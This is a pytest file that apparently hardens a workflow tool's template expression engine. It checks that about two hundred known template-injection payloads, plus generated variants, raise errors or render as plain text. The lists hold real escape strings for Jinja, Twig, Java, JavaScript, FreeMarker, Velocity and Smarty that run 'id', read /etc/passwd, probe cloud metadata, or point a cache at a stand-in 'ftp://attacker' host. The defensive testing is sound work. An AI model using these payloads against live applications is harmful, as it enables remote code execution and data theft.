"""Known ways out of template engines. Here each is an error or plain text, and no object of the host is touched."""

from __future__ import annotations

import os
from itertools import product
from typing import Any

import pytest

from flows.expressions import ExpressionError, StaticEnvironment, render

MARK = "LEAKED-MARK"


class HostObject:
    """Stands for a value that should never have reached the variables; whoever touches it gives the mark away."""

    secret = MARK

    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"{name} of a host object was read")

    def __call__(self, *arguments: Any) -> str:
        raise AssertionError("a host object was called")

    def __str__(self) -> str:
        return MARK

    __repr__ = __str__


# Each is tried as attribute, item, method and argument of every receiver.
NAME_WORDS = """
    __class__ __mro__ __base__ __bases__ __subclasses__ __init__ __globals__ __builtins__ __dict__ __import__ __getattribute__
    __reduce__ __reduce_ex__ __code__ __closure__ __doc__ __module__ __func__ __self__ __wrapped__ __loader__ __spec__ gi_frame
    f_globals f_back tb_frame func_globals mro format format_map encode decode translate getClass class forName getClassLoader
    getProtectionDomain newInstance getRuntime getMethods invoke constructor prototype __proto__ caller callee secret _self env
"""
NAMES = NAME_WORDS.split()
RECEIVERS = ["''", "[]", "{}", "1", "1.5", "true", "host", "text", "now()", "loop", "self", "_context"]
FORMS = ["{{{{ {receiver}.{name} }}}}", "{{{{ ({receiver})['{name}'] }}}}", "{{{{ ({receiver}).{name}() }}}}"]

WRITTEN = [
    # Python engines
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''.__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{{ {}.__class__.__mro__[-1].__subclasses__()[132].__init__.__globals__['popen']('id').read() }}",
    "{{ config }}",
    "{{ config.items() }}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ lipsum.__globals__.os.system('id') }}",
    "{{ url_for.__globals__ }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ request['application']['__globals__'] }}",
    "{{ request | attr('application') | attr('__globals__') }}",
    "{{ '' | attr('__class__') }}",
    "{{ '' | attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ ''['__cla' ~ 'ss__'] }}",
    "{{ ''['__cla' + 'ss__'] }}",
    "{{ ''[['__cl', 'ass__'] | join] }}",
    "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "{{ ''[('__ssalc__' | reverse)] }}",
    "{{ '{0.__class__}'.format(text) }}",
    "{{ '%s' % text }}",
    "{{ '{0.__class__.__init__.__globals__}' | format(host) }}",
    "{{ ['a'] | map(attribute='__class__') | list }}",
    "{{ [host] | map('upper') }}",
    "{{ [1] | selectattr('__class__') }}",
    "{{ [1] | groupby('__class__') }}",
    "{{ dict(__class__=1) }}",
    "{{ range.__class__ }}",
    "{{ now.__globals__ }}",
    "{{ render.__code__ }}",
    "{{ (1).__class__ }}",
    "{{ (text | upper).__class__ }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{% set c = ''.__class__ %}{{ c }}",
    "{% if ''.__class__ %}yes{% endif %}",
    "{% macro m() %}{{ caller() }}{% endmacro %}{{ m.__globals__ }}",
    "{% with a = ''.__class__ %}{{ a }}{% endwith %}",
    "{% import 'os' as os %}{{ os }}",
    "{% from 'os' import popen %}{{ popen }}",
    "{% import os %}{{ os.popen('id').read() }}",
    "{% include '/etc/passwd' %}",
    "{% include 'kestra:///etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
    "{% embed '/etc/passwd' %}{% endembed %}",
    "{% debug %}",
    "{% load os %}",
    "{% call m() %}{% endcall %}",
    "{% autoescape false %}{{ host }}{% endautoescape %}",
    "{% print(host) %}",
    "{% exec 'import os' %}",
    "{% do host.secret %}",
    "{{ __import__('os').popen('id').read() }}",
    "{{ open('/etc/passwd').read() }}",
    "{{ eval('1+1') }}",
    "{{ exec('import os') }}",
    "{{ getattr(text, '__class__') }}",
    "{{ globals() }}",
    "{{ locals() }}",
    "{{ vars() }}",
    "{{ dir(text) }}",
    "{{ type(text) }}",
    "{{ lambda: 1 }}",
    "{{ [x for x in ''.__class__.__mro__] }}",
    "{{ (yield) }}",
    "{{ host }}",
    "{{ host ~ '' }}",
    "{{ host | upper }}",
    "{{ host | toJson }}",
    "{{ host | yaml }}",
    "{{ host | toIon }}",
    "{{ [host] }}",
    "{{ {'k': host} }}",
    "{{ [host] | join(',') }}",
    "{{ host | string }}",
    "{{ host + 'x' }}",
    "{{ host() }}",
    '{{ "#{host}" }}',
    # Java engines of the same family
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{{ text.getClass() }}",
    "{{ text.class }}",
    "{{ text.class.forName('java.lang.Runtime') }}",
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null, null).exec('id') }}",
    "{{ text.getClass().getClassLoader().loadClass('java.lang.Runtime') }}",
    "{{ beans }}",
    "{{ beans['jacksonObjectMapper'] }}",
    "{{ request.servletContext }}",
    "{{ _context.getClass() }}",
    "{{ template }}",
    "{{ parent() }}",
    "{{ locale.getClass() }}",
    "{{ text.toUpperCase().getClass() }}",
    "{{ text.split('').getClass() }}",
    "{{ l.iterator() }}",
    "{{ l.stream() }}",
    "{{ m.entrySet() }}",
    "{{ m.put('a', 1) }}",
    "{{ l.add(1) }}",
    "{{ l.clear() }}",
    "{{ text.getBytes() }}",
    "{{ text.chars() }}",
    "{{ text.intern() }}",
    "{{ text.wait() }}",
    "{{ text.notify() }}",
    "{{ text.hashCode() }}",
    "{{ text.concat('x') }}",
    "{{ text.matches('x') }}",
    "{{ text.format('%s', 1) }}",
    "{% cache 'x' %}{{ host }}{% endcache %}",
    "{% parallel %}{{ host }}{% endparallel %}",
    "{% flush %}",
    # Twig
    "{{ _self }}",
    "{{ _self.env }}",
    "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}",
    "{{ _self.env.setCache('ftp://attacker') }}{{ _self.env.loadTemplate('x') }}",
    "{{ ['id'] | filter('system') }}",
    "{{ ['id', ''] | sort('system') }}",
    "{{ ['id'] | map('system') | join }}",
    "{{ ['id', 1] | reduce('system') }}",
    "{{ {'id': 'shell_exec'} | map('call_user_func') | join }}",
    "{{ 'id' | passthru }}",
    "{{ dump(app) }}",
    "{{ app.request.server.all | join(',') }}",
    "{{ include('/etc/passwd') }}",
    "{{ source('/etc/passwd') }}",
    "{{ constant('PHP_VERSION') }}",
    "{{ attribute(host, 'secret') }}",
    "{{ template_from_string('{{ 1 }}') }}",
    "{% use '/etc/passwd' %}",
    "{% sandbox %}{{ host }}{% endsandbox %}",
    "{{ '/etc/passwd' | file_excerpt(1, 30) }}",
    # JavaScript in braces
    "{{ constructor.constructor('return process')() }}",
    "{{ this.constructor.constructor('return process.env')() }}",
    "{{ $json.constructor.constructor('return 1')() }}",
    "{{ (function(){ return this.process.mainModule.require('child_process').execSync('id') })() }}",
    "{{ Object.getOwnPropertyDescriptor(Object, 'constructor') }}",
    "{{ ({}).constructor.constructor('return process')() }}",
    "{{ [].constructor.constructor('return process')() }}",
    "{{ ''.sub.call.call(({}).constructor.getOwnPropertyDescriptor(''.sub.__proto__, 'constructor').value, null, 'x')() }}",
    "{{ process.env }}",
    "{{ global.process }}",
    "{{ require('fs').readFileSync('/etc/passwd') }}",
    "{{ `${process.env}` }}",
    "{{ $env.PATH }}",
    "{{ $('x').item.json.constructor }}",
    "{{ x => x }}",
    "{{ new Function('return 1')() }}",
    "{{ ''['constructor']['constructor']('return 1')() }}",
    "{{ m.__proto__.polluted = 1 }}",
    "{{ Reflect.ownKeys(this) }}",
    "{{ globalThis }}",
    # What filters and functions might let through
    "{{ {} | jq('env') }}",
    "{{ {} | jq('$ENV.PATH') }}",
    "{{ {} | jq('$ENV') | first | keys | join(',') }}",
    "{{ {} | jq('import \"os\" as os; 1') }}",
    "{{ {} | jq('include \"x\"; 1') }}",
    "{{ {} | jq('input_filename') }}",
    "{{ {} | jq('input') }}",
    "{{ {} | jq('$__prog_args') }}",
    "{{ {} | jq('halt_error') }}",
    "{{ {} | jq('get_search_list') }}",
    "{{ {} | jq('@sh \"x\" | system') }}",
    "{{ yaml('!!python/object/apply:os.system [id]') }}",
    "{{ yaml('!!python/name:os.system') }}",
    "{{ yaml('a: !!python/object:subprocess.Popen {}') }}",
    "{{ yaml('!!javax.script.ScriptEngineManager []') }}",
    "{{ fromJson('{\"__class__\": 1}').__class__.__mro__ }}",
    "{{ fromIon('$ion_1_0 os::system') }}",
    "{{ 'x' | date('%s') }}",
    "{{ now(timeZone='../../../etc/passwd') }}",
    "{{ now(locale='../../etc/passwd') }}",
    "{{ now(timeZone='/etc/localtime') }}",
    "{{ fileURI('../../etc/passwd') }}",
    "{{ fileURI('a/../../b') }}",
    "{{ read('/etc/passwd') }}",
    "{{ read('file:///etc/passwd') }}",
    "{{ read('../../etc/passwd') }}",
    "{{ secret('PATH') }}",
    "{{ kv('__class__') }}",
    "{{ http('file:///etc/passwd') }}",
    "{{ http('http://169.254.169.254/latest/meta-data/') }}",
    "{{ printContext().host.secret }}",
    "{{ fetchContext()['__class__'] }}",
    "{{ render('{{ host.secret }}') }}",
    "{{ renderOnce('{{ host }}') }}",
    "{{ render('{{ \"\".__class__ }}') }}",
    "{{ block('__class__') }}{{ host.secret }}",
    "{{ 'a' | replace({'a': '$9'}, regexp=true) }}",
    "{{ 'a' | regexReplace('a', '${__class__}') }}",
    "{{ 'a' | className | className.forName }}",
    "{{ 'x' | default(host.secret) }}{{ host }}",
]

# Not our delimiters: text that must come out as it went in.
OTHER_LANGUAGES = [
    "${7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{7*7}",
    "*{7*7}",
    "~{fragment}",
    "${''.getClass().forName('java.lang.Runtime')}",
    '${"freemarker.template.utility.Execute"?new()("id")}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.exec('id')",
    "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')",
    "%{(#rt=@java.lang.Runtime@getRuntime()).exec('id')}",
    "@{import os}",
    "<%= system('id') %>",
    "<%= 7*7 %>",
    "<% import os %>",
    "{7*7}",
    "[[${7*7}]]",
    "[(${7*7})]",
    "${{7*7}".replace("{{", "{ {"),
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{if system('id')}{/if}",
    "{$smarty.version}",
    "{include file='/etc/passwd'}",
    "@(1+1)",
    "@Html.Raw(1)",
    "<c:out value='${1+1}'/>",
    "$(id)",
    "`id`",
    "; id",
    "%s%n%x",
    "{0.__class__}",
    "%(__class__)s",
]

VARIABLES = {"host": HostObject(), "text": "abc", "m": {"k": "v"}, "l": [1], "flow": {"id": "f", "namespace": "n"}}
ENVIRONMENT = StaticEnvironment(secrets={}, kv={}, files={}, error_logs=[], namespace="n")
LEAKS = (MARK, "<class", "<function", "<module", "<built-in", " object at 0x", "root:x:", "/bin", os.environ.get("PATH", MARK))
BUILT = [form.format(receiver=receiver, name=name) for form, receiver, name in product(FORMS, RECEIVERS, NAMES)]


def find_leak(payload: str) -> str | None:
    """Return the leaking result of a payload, None when it was refused or gave harmless text."""
    for typed in (False, True):
        try:
            result = render(payload, VARIABLES, environment=ENVIRONMENT, typed=typed)
        except ExpressionError:
            continue
        # A typed result may hold what the caller put into the variables; its text is never made here.
        if isinstance(result, str) and any(leak in result for leak in LEAKS):
            return result
        if not isinstance(result, (str, int, float, list, dict, HostObject, type(None))):
            return type(result).__name__
    return None


@pytest.mark.parametrize("payload", WRITTEN)
def test_a_known_escape_is_refused_or_harmless(payload: str) -> None:
    assert find_leak(payload) is None


@pytest.mark.parametrize("payload", OTHER_LANGUAGES)
def test_a_payload_of_another_language_is_plain_text(payload: str) -> None:
    assert render(payload, VARIABLES, environment=ENVIRONMENT) == payload


@pytest.mark.parametrize("receiver", RECEIVERS)
def test_no_internal_name_is_reachable_on_any_value(receiver: str) -> None:
    payloads = [payload for payload in BUILT if receiver in payload]

    leaks = {payload: leak for payload in payloads if (leak := find_leak(payload)) is not None}

    assert leaks == {}


def test_the_corpus_has_at_least_two_hundred_written_payloads() -> None:
    assert len(set(WRITTEN) | set(OTHER_LANGUAGES)) >= 200
    assert len(set(BUILT)) >= 1500


@pytest.mark.parametrize("value", ["{{ secret('x') }}", "{% raw %}{{ x }}{% endraw %}", "{{ 7 * 7 }}", "#{1 + 1}", "{% if %}"])
def test_text_that_comes_from_a_variable_is_not_evaluated(value: str) -> None:
    rendered = render({"text": "{{ v }}", "key {{ v }}": ["{{ v | trim }}", "{{ [v] | first }}"]}, {"v": value})

    assert rendered == {"text": value, f"key {value}": [value, value]}
